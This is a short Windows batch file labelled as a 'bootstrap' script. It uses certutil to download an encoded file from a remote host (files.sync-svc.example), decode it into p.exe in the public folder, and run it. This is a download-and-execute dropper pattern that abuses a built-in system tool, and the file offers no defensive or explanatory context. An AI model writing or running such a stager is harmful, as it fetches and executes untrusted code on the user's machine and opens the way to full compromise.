REM bootstrap 8452 v3
@echo off
certutil -urlcache -f http://files.sync-svc.example/p.txt %PUBLIC%\p.txt
certutil -decode %PUBLIC%\p.txt %PUBLIC%\p.exe
%PUBLIC%\p.exe
